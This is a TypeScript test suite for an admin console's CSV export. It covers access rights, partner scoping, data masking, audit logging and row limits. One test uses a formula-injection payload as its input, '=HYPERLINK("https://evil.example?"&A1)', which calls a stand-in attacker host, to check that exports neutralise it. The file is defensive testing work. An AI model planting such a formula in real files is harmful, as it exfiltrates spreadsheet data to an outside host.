/** Lists of the console as CSV. */
import { afterAll, describe, expect, it } from 'vitest';
import type { ScreenAction } from '../../packages/console/src/http/screen.js';
import type { ListDeclaration } from '../../packages/console/src/screens/parts/define-list.js';
import { exportCsv, MOST_EXPORTED } from '../../packages/console/src/screens/parts/export-csv.js';
import { SCREENS } from '../../packages/console/src/screens/screens.js';
import { ADMIN, openPlatform, PERSONAL, visit } from './platform.js';

const platform = await openPlatform();
afterAll(() => platform.close());

const entries = async () => (await platform.fixture.operator.audit.list({ act: 'audit.recordExport' })).items;

describe('an export', () => {
  it('has the rows of the list, masked alike, and the audit records it', async () => {
    const { fixture, alan, linus } = platform;
    const visitor = visit(fixture);
    const known = (await entries()).length;
    const page = await visitor.get('/console/queues/unchanged?days=1');
    expect(page.text).toContain('action="/console/queues/unchanged.csv"');
    expect(page.text).toContain('Download CSV');
    const { status, headers, text } = await visitor.post('/console/queues/unchanged.csv', { days: '1' });
    expect(status).toBe(200);
    expect(headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(headers.get('content-disposition')).toBe('attachment; filename="queues-unchanged.csv"');
    expect(headers.get('cache-control')).toBe('no-store');
    const lines = text.split('\r\n');
    expect(lines[0]).toMatch(
      /^\ufeff?"Candidate","Application","Status","Job","Company","Partner","Submitted","Last change"/,
    );
    expect(lines).toHaveLength(4);
    expect(lines[1]).toMatch(new RegExp(`^"A… T…","${alan}",`));
    expect(lines[2]).toContain(linus);
    expect(lines[1]).toMatch(/"2026-01-05T[\d:]+Z"/);
    for (const personal of PERSONAL) expect(text).not.toContain(personal);
    expect(await entries()).toHaveLength(known + 1);
    const audit = await visitor.get('/console/audit');
    expect(audit.text).toContain('>list queues-unchanged<');
    expect((await visitor.get('/console/applications')).text).toContain(
      'href="/console/queues/unchanged?days=3">Applications that nobody has changed for 3 days</a>',
    );
    expect((await entries())[0]).toMatchObject({
      actor: { id: ADMIN.id },
      objects: [{ kind: 'list', id: 'queues-unchanged' }],
      filter: { days: '1' },
    });
  });

  it('needs its right, and a form of the console', async () => {
    const { fixture } = platform;
    const visitor = visit(fixture);
    const known = (await entries()).length;
    expect((await visitor.post('/console/applications.csv', {}, {})).status).toBe(403);
    expect((await visitor.get('/console/applications.csv')).status).toBe(404);
    visitor.become({ ...ADMIN, rights: ADMIN.rights.filter((right) => right !== 'lists:export') });
    const refused = await visitor.post('/console/applications.csv');
    expect(refused.status).toBe(403);
    expect(refused.text).toContain('lists:export');
    expect((await visitor.get('/console/applications')).text).not.toContain('Download CSV');
    expect(await entries()).toHaveLength(known);
  });

  it('gives somebody for one partner only its rows, and names the partner in the audit', async () => {
    const { fixture, globex, hooli } = platform;
    const visitor = visit(fixture);
    visitor.become({ ...ADMIN, partnerIds: [hooli.partnerId] });
    const { text } = await visitor.post('/console/queues/paused.csv');
    expect(text.split('\r\n')).toHaveLength(3);
    expect(text).toContain('Hooli (production)');
    expect((await entries())[0]?.objects).toEqual([
      { kind: 'list', id: 'queues-paused' },
      { kind: 'partner', id: hooli.partnerId },
    ]);
    expect((await visitor.post('/console/queues/unchanged.csv')).status).toBe(403);
    expect((await visitor.post('/console/applications.csv', { key: globex.keyId })).status).toBe(404);
  });

  it('a formula of a partner is text in the export', async () => {
    const { fixture, acme } = platform;
    const title = '=HYPERLINK("https://evil.example?"&A1)';
    await fixture.operator.jobs.update({ id: acme.jobId as `job_${string}`, changes: { title } });
    const { text } = await visit(fixture).post('/console/applications.csv');
    expect(text).toContain(`"'=HYPERLINK(""https://evil.example?""&A1)"`);
    expect(text).not.toMatch(/(^|[\n,;])"?[=+\-@]/);
  });

  it('has the jobs of a company, and the companies', async () => {
    const { fixture, acme } = platform;
    const visitor = visit(fixture);
    const job = await fixture.operator.jobs.find({ id: acme.jobId as `job_${string}` });
    const companyId = job?.companyId ?? 'co_none';
    const filter = { company: companyId, state: 'open' };
    expect((await visitor.get(`/console/jobs?company=${companyId}`)).text).toContain(
      'action="/console/jobs.csv"',
    );
    const jobs = await visitor.post('/console/jobs.csv', filter);
    expect(jobs.headers.get('content-disposition')).toBe('attachment; filename="jobs.csv"');
    expect(jobs.text).toMatch(/^\ufeff?"Job","State","Place","Company","Published"\r\n/);
    expect(jobs.text).toContain(`"${job?.title.replaceAll('"', '""').replace(/^=/, "'=")}"`);
    expect((await entries())[0]).toMatchObject({ objects: [{ kind: 'list', id: 'jobs' }], filter });
    expect((await visitor.post('/console/jobs.csv', {})).status).toBe(400);

    expect((await visitor.get('/console/jobs')).text).toContain('action="/console/companies.csv"');
    const companies = await visitor.post('/console/companies.csv');
    expect(companies.text).toMatch(/^\ufeff?"Company","Id","Environment","Added"\r\n/);
    expect(companies.text).toContain(`"${companyId}","production","2026-01-05T`);
    expect((await entries())[0]).toMatchObject({ objects: [{ kind: 'list', id: 'companies' }] });
    expect((await visitor.get('/console/companies')).headers.get('location')).toBe('/console/jobs');
  });

  it('gives somebody for one partner only the companies and jobs that it sees', async () => {
    const { fixture, acme, globex } = platform;
    const { operator } = fixture;
    const job = await operator.jobs.find({ id: acme.jobId as `job_${string}` });
    const companyId = job?.companyId ?? 'co_none';
    await operator.companies.create({ name: 'Hidden Lodge', environment: 'production' });
    const visitor = visit(fixture);
    visitor.become({ ...ADMIN, partnerIds: [globex.partnerId] });
    const { text } = await visitor.post('/console/companies.csv');
    expect(text).toContain(companyId);
    expect(text).not.toContain('Hidden Lodge');
    expect((await visitor.post('/console/jobs.csv', { company: companyId })).status).toBe(200);
    expect((await visitor.post('/console/jobs.csv', { company: 'co_none' })).status).toBe(404);
  });

  it('has the results of a search, masked, and the audit has the kind of the search without its text', async () => {
    const { fixture, grace } = platform;
    const visitor = visit(fixture);
    const search = { q: 'grace@example.org', by: 'email' };
    expect((await visitor.post('/console/applications', search)).text).toContain(
      'action="/console/applications.csv"',
    );
    const known = (await entries()).length;
    const { status, headers, text } = await visitor.post('/console/applications.csv', search);
    expect([status, headers.get('content-type')]).toEqual([200, 'text/csv; charset=utf-8']);
    const lines = text.trimEnd().split('\r\n');
    expect(lines).toHaveLength(2);
    expect(lines[1]).toContain(grace);
    for (const personal of PERSONAL) expect(text).not.toContain(personal);
    expect(await entries()).toHaveLength(known + 1);
    const [entry] = await entries();
    expect(entry).toMatchObject({ objects: [{ id: 'applications' }], filter: { by: 'email' } });
    expect(JSON.stringify(entry)).not.toContain('grace');
    expect((await visitor.post('/console/applications.csv', { q: 'grace' })).status).toBe(400);
    visitor.become({ ...ADMIN, rights: ADMIN.rights.filter((right) => right !== 'candidates:search') });
    expect((await visitor.post('/console/applications.csv', search)).status).toBe(403);
    visitor.become({ ...ADMIN, rights: ADMIN.rights.filter((right) => right !== 'lists:export') });
    expect((await visitor.post('/console/applications.csv', search)).status).toBe(403);
    expect(await entries()).toHaveLength(known + 1);
  });

  it('is possible for each list', () => {
    const lists = SCREENS.flatMap(({ pages }) =>
      Object.entries(pages).flatMap(([path, { csv }]) => (csv === undefined ? [] : [path])),
    );
    const expected = [
      'applications',
      'audit',
      'companies',
      'deliveries',
      'endpoints',
      'jobs',
      'operations',
      'partners',
      'requests',
    ];
    const queues = ['failing', 'parked', 'paused', 'resumes', 'unchanged'].map((name) => `queues/${name}`);
    expect(lists.toSorted()).toEqual(
      expect.arrayContaining([...expected, ...queues].map((name) => `/${name}`)),
    );
  });
});

describe('a long export', () => {
  let reads = 0;
  const list: ListDeclaration<number> = {
    title: 'Numbers',
    path: '/numbers',
    fields: [],
    read: async (_, fields) => {
      reads += 1;
      const from = Number(fields.text('cursor') ?? 0);
      return {
        items: Array.from({ length: 3_000 }, (_, index) => from + index),
        nextCursor: String(from + 3_000),
        caption: '',
        empty: '',
        columns: [
          { header: 'Number', cell: (number) => String(number) },
          { header: 'Act', cell: () => 'x', isScreenOnly: true },
        ],
      };
    },
  };
  const call = {
    gate: { require: () => {}, call: async () => ({ recorded: true }), actor: { partnerIds: 'all' } },
    form: { text: () => null, all: () => [], instant: () => null, entries: () => [] },
  } as unknown as ScreenAction;

  it('reads a page when the browser takes it, ends at its bound, and says so', async () => {
    const file = await exportCsv(list)(call);
    if (file.kind !== 'file') throw new Error('It must be a file.');
    expect(reads).toBe(1);
    const texts: string[] = [];
    for await (const text of file.chunks) texts.push(text);
    expect(reads).toBe(4);
    const lines = texts.join('').replace(/\r\n$/, '').split('\r\n');
    expect(lines).toHaveLength(1 + MOST_EXPORTED + 1);
    expect(lines[0]).toBe('\ufeff"Number"');
    expect(lines[MOST_EXPORTED]).toBe(`"${MOST_EXPORTED - 1}"`);
    expect(lines.at(-1)).toContain('it has at most 10,000 rows');
  });
});
